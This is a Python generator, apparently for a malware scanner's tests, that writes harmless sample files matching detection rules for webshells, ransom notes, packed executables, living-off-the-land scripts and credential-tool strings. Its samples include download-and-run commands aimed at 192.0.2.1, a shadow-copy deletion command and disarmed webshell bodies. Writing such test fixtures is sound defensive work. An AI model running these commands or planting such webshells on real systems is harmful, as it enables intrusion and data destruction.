#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
# Copyright The Sekisho authors
"""Writes harmless files with the traits that the shipped rules look for, and
near misses that must not be found.

    rule-samples.py FOLDER

makes FOLDER/<case>/<file> and FOLDER.tsv with a line `path TAB ids`, the ids
sorted and joined by commas, `-` for none. Words that scanners of developers'
machines know are put together here, so that this source matches no rule.
"""
import os
import random
import struct
import sys

import pe

KERNEL = {"KERNEL32.dll": ["LoadLibraryA", "GetProcAddress"]}
NORMAL = {"KERNEL32.dll": ["LoadLibraryA", "GetProcAddress", "GetCommandLineA", "SetUnhandledExceptionFilter", "ExitProcess"]}
EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS" + "-TEST-FILE!$H+H*"
GTUBE = "XJS*C4JDBQADN1.NSBN3*2IDNEN*" + "GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL" + "*C.34X"
noise = random.Random(20261125)


def random_bytes(size):
    return noise.randbytes(size)


def utf16(text):
    return text.encode("utf-16le")


def worms():
    """Manifests of packages; the worms' own names are put together here."""
    script, crypto = "setup_" + "bun.js", "plain-" + "crypto-js"
    worm = "file.worm.install-script"
    yield "worm/a/package.json", b'{"scripts": {"preinstall": "node ' + script.encode() + b'"}}', worm
    yield "worm/b/package.json", b'{"dependencies": {"' + crypto.encode() + b'": "^4.2.1"}}', worm
    yield "worm/c/package.json", b'{\n  "name": "axios",\n  "version": "1.14.' + b'1"\n}', worm
    yield "worm/d/package.json", b'{"name": "axios", "version": "1.14.0", "scripts": {"preinstall": "node setup.js"}}', "-"
    yield "worm/e/package.json", b'{"name": "other", "version": "1.14.1", "dependencies": {"axios": "1.7.9"}}', "-"
    yield "worm/report.md", b'It sets "preinstall": "node ' + script.encode() + b'" in package.json.', "-"


def cases():
    """Yields (path, bytes, ids)."""
    yield from worms()
    yield "eicar/eicar.com", EICAR.encode(), "file.test.eicar"
    yield "eicar/newline.com", EICAR.encode() + b"\r\n", "file.test.eicar"
    yield "eicar/quoted.md", b"The file holds " + EICAR.encode(), "-"
    yield "eicar/longer.com", EICAR.encode() + b" " * 70, "-"
    yield "gtube/mail.eml", ("From: a@example.jp\nSubject: test\n\n" + GTUBE + "\n").encode(), "mail.test.gtube"
    yield "gtube/broken.eml", ("Subject: test\n\n" + GTUBE.replace("34X", "35X") + "\n").encode(), "-"

    program = pe.build(imports=NORMAL)
    elf = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 0, 64, 0, 0) + b"\0" * 56 + b"\xC3"
    yield "fl-01/見積書.pdf", program, "file.type.mismatch"
    yield "fl-01/写真.jpg", elf, "file.type.mismatch"
    yield "fl-01/図面.docx", program, "file.type.mismatch"
    yield "fl-01/update.dat", program, "-"
    yield "fl-01/tool.exe", program, "-"
    yield "fl-01/._memo.docx", b"\0\x05\x16\x07\0\x02\0\0Mac OS X        " + b"\0" * 80, "-"
    yield "fl-01/一覧.xls", "<html><body><table><tr><td>売上</td></tr></table></body></html>".encode("cp932"), "-"
    yield "fl-01/売上.xls", "品番,数量\r\nA-1,3\r\n".encode("cp932"), "-"
    yield "fl-01/CAD図.dat", b"MZ" + b"CAD DATA 1.0 " * 40, "-"

    yield "fl-07/two.bat", b"@echo off\r\ncertutil -urlcache -f http://192.0.2.1/a a.txt\r\nschtasks /create /tn x /tr a.txt\r\n", "file.script.lolbas"
    yield "fl-07/two.ps1", b"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/')\n", "file.script.lolbas"
    yield "fl-07/one.bat", b"@echo off\r\nschtasks /create /tn backup /tr backup.cmd\r\n", "-"
    yield "fl-07/destroy.cmd", b"@echo off\r\nvssadmin delete shadows /all /quiet\r\n", "file.script.destroys-recovery"
    yield "fl-07/list.cmd", b"@echo off\r\nvssadmin list shadows\r\n", "-"
    yield "fl-07/手順書.txt", "certutil -urlcache と schtasks /create、vssadmin delete shadows は攻撃で使われます。".encode(), "-"
    yield "fl-07/保守.bat", "@echo off\r\nrem 定期保守\r\nxcopy C:\\log D:\\log /s\r\n".encode("cp932"), "-"

    packed = [("UPX0", random_bytes(8192), pe.CODE | pe.WRITE), ("UPX1", random_bytes(512), pe.CODE | pe.WRITE)]
    yield "fl-08/packed.exe", pe.build(sections=packed, imports=KERNEL), "file.pe.packed"
    yield "fl-08/late.exe", pe.build(sections=[(".text", b"\xC3" * 512, pe.CODE), (".x", random_bytes(8192), pe.CODE | pe.WRITE)], entry=1), "file.pe.packed"
    yield "fl-08/random-only.exe", pe.build(sections=[(".text", random_bytes(8192), pe.CODE)], imports=NORMAL), "-"
    yield "fl-08/two-traits.exe", pe.build(sections=[(".text", random_bytes(8192), pe.CODE | pe.WRITE)], imports=NORMAL), "-"

    microsoft = {"CompanyName": "Microsoft Corporation", "OriginalFilename": "svchost.exe"}
    yield "fl-09/svchost.exe", pe.build(imports=NORMAL, version=microsoft), "file.pe.false-vendor"
    yield "fl-09/reader.exe", pe.build(imports=NORMAL, version={"CompanyName": "Adobe Inc."}), "file.pe.false-vendor"
    yield "fl-09/signed.exe", pe.build(imports=NORMAL, version=microsoft, signed=True), "-"
    yield "fl-09/old.exe", pe.build(imports=NORMAL, version=microsoft, time=0x3B7D8410), "-"
    yield "fl-09/own.exe", pe.build(imports=NORMAL, version={"CompanyName": "サンプル電機株式会社"}), "-"
    yield "fl-09/app.resources.dll", pe.build(version=microsoft, library=True), "-"

    writable = [(".text", b"\xC3" * 512, pe.CODE | pe.WRITE)]
    yield "fl-10/behind.exe", pe.build(imports=NORMAL, overlay=pe.build()), "file.pe.hidden-code"
    yield "fl-10/zip.exe", pe.build(sections=writable, imports=NORMAL, overlay=b"PK\3\4" + b"\0" * 100), "file.pe.hidden-code"
    yield "fl-10/installer.exe", pe.build(imports=NORMAL, overlay=b"\0\0\0\0\xEF\xBE\xAD\xDENullsoftInst" + pe.build()), "-"
    yield "fl-10/sfx.exe", pe.build(imports=NORMAL, overlay=b"PK\3\4" + b"\0" * 100), "-"
    yield "fl-10/data.exe", pe.build(imports=NORMAL, overlay=b"LICENCE" * 40), "-"

    words = ("mimi" + "katz", "sekur" + "lsa::")
    yield "fl-12/words.exe", pe.build(imports=NORMAL, sections=[(".text", b"\xC3" * 512, pe.CODE), (".rdata", utf16(" ".join(words)), pe.READ)]), "file.tool.credentials"
    yield "fl-12/one-word.exe", pe.build(imports=NORMAL, sections=[(".text", b"\xC3" * 512, pe.CODE), (".rdata", utf16(words[0]), pe.READ)]), "-"
    yield "fl-12/記事.txt", ("この記事は " + " と ".join(words) + " を説明します。").encode(), "-"
    yield "fl-12/remote.exe", pe.build(imports=NORMAL, sections=[(".text", b"\xC3" * 512, pe.CODE), (".rdata", utf16("PSEXE" + "SVC Sysinternals"), pe.READ)]), "file.tool.remote"
    yield "fl-12/beacon.bin", b"\0" * 64 + bytes(b ^ 0x69 for b in bytes.fromhex("000100010002000000020001000201bb000300020004")) + b"\0" * 64, "file.tool.beacon-config"

    onion = "ab2cd3ef4gh5ij6kl7mn2op3qr4st5uv6wx7yz2ab3cd4ef5gh6ij7kl" + ".on" + "ion"
    note = "All your important files have been encrypted.\nDo not rename them.\nTo decrypt: http://" + onion + "/\n"
    yield "fl-16/note.txt", note.encode(), "file.ransom.note-text"
    yield "fl-16/wide.txt", b"\xff\xfe" + utf16(note), "file.ransom.note-text"
    yield "fl-16/page.html", ("<html><body>We have stolen 40 GB of your data. We publish all files unless you pay us in monero: http://" + onion + "</body></html>").encode(), "file.ransom.note-text"
    yield "fl-16/tox.txt", ("Your network was locked. Our decryptor has a price in bitcoin. TOX: " + "0123456789ABCDEF" * 4 + "0123456789AB\n").encode(), "file.ransom.note-text"
    japanese = "貴社のデータを暗号化しました。復号するには http://" + onion + " に連絡してください。\r\n"
    yield "fl-16/連絡.txt", japanese.encode(), "file.ransom.note-text"
    yield "fl-16/連絡-sjis.txt", japanese.encode("cp932"), "file.ransom.note-text"
    yield "fl-16/連絡-utf16.txt", b"\xff\xfe" + utf16(japanese), "file.ransom.note-text"
    yield "fl-16/paper.txt", ("The group encrypts files of its victims, publishes stolen data on http://" + onion + " and sells a decryptor for bitcoin.").encode(), "-"
    yield "fl-16/研修.txt", "「あなたのファイルを暗号化しました。復号には bitcoin を支払え。http://xxxxxxxxxxxxxxxx.onion」という画面が出たら、すぐに連絡してください。".encode(), "-"
    yield "fl-16/training.txt", note.replace(onion, "example.onion").encode(), "-"
    yield "fl-16/leaks.txt", ("Your documents are encrypted before they are stored, and only we can decrypt them. Use the Tor browser: http://" + onion).encode(), "-"
    yield "fl-16/long.txt", (note + "\n" * 65536).encode(), "-"

    run = "ev" + "al"
    yield "fl-18/upload.php", ("<?php if (false) " + run + "($_POST['x']); ?>").encode(), "file.webshell.php"
    yield "fl-18/packed.php", ("<?php if (false) " + run + "(gzinflate(base64_decode('AAAA'))); ?>").encode(), "file.webshell.php"
    yield "fl-18/decoded.php", ("<?php if (false) " + run + "(base64_decode($_COOKIE['x'])); ?>").encode(), "file.webshell.php"
    yield "fl-18/info.php", b"<?php phpinfo(); echo htmlspecialchars($_GET['q']); system('uptime'); ?>", "-"
    yield "fl-18/note.md", ("Never write `<?php " + run + "($_POST['x'])`.").encode(), "-"
    yield "fl-18/cmd.jsp", b"<%@ page import=\"java.io.*\" %><% if (false) Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "file.webshell.jsp"
    yield "fl-18/list.jsp", b"<% String name = request.getParameter(\"name\"); %>", "-"
    yield "fl-18/one.aspx", ("<%@ Page Language=\"Jscript\"%><%if(false)" + run + "(Request.Item[\"z\"],\"unsafe\");%>").encode(), "file.webshell.aspx"
    yield "fl-18/page.aspx", b"<%@ Page Language=\"C#\" %><% Response.Write(Server.HtmlEncode(Request[\"q\"])); %>", "-"
    yield "fl-18/human2.aspx", b"<%@ Page Language=\"C#\" %>", "file.webshell.moveit"
    yield "fl-18/human.aspx", b"<%@ Page Language=\"C#\" %>", "-"

    yield "fl-24/操作説明.chm", b"ITSF" + struct.pack("<II", 3, 0x60) + b"\0" * 100, "file.type.chm"
    yield "fl-24/text.chm", b"ITSF is the mark of compiled help", "-"
    yield "fl-24/form.hta", b"<html><head><HTA:APPLICATION id=\"a\"></head><script>var a = 1;</script></html>", "file.type.hta"
    yield "fl-24/page.html", b"<html><script>var a = 1;</script></html>", "-"
    yield "fl-24/panel.cpl", pe.build(imports=NORMAL, exports=["CPlApplet"], library=True), "file.type.cpl"
    yield "fl-24/panel.dll", pe.build(imports=NORMAL, exports=["Other"], library=True), "-"
    yield "fl-24/saver.scr", pe.build(imports=NORMAL), "file.type.scr"
    yield "fl-24/script.scr", b"LAYER NEW\nLINE 0,0 10,10\n", "-"
    yield "fl-24/console.msc", b"<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\"></MMC_ConsoleFile>", "file.type.msc"
    yield "fl-24/addin.xll", pe.build(imports=NORMAL, exports=["xlAutoOpen"], library=True), "file.type.xll"
    yield "fl-24/share.library-ms", b"<?xml version=\"1.0\"?><libraryDescription><simpleLocation><url>\\\\192.0.2.9\\share</url></simpleLocation></libraryDescription>", "file.type.search-ms"
    yield "fl-24/own.library-ms", b"<?xml version=\"1.0\"?><libraryDescription><simpleLocation><url>knownfolder:{FDD39AD0}</url></simpleLocation></libraryDescription>", "-"


def main():
    folder = sys.argv[1]
    with open(folder.rstrip("/") + ".tsv", "w", encoding="utf-8") as table:
        for path, content, ids in cases():
            full = os.path.join(folder, path)
            os.makedirs(os.path.dirname(full), exist_ok=True)
            with open(full, "wb") as file:
                file.write(content)
            table.write("%s\t%s\n" % (path, ids))


if __name__ == "__main__":
    main()
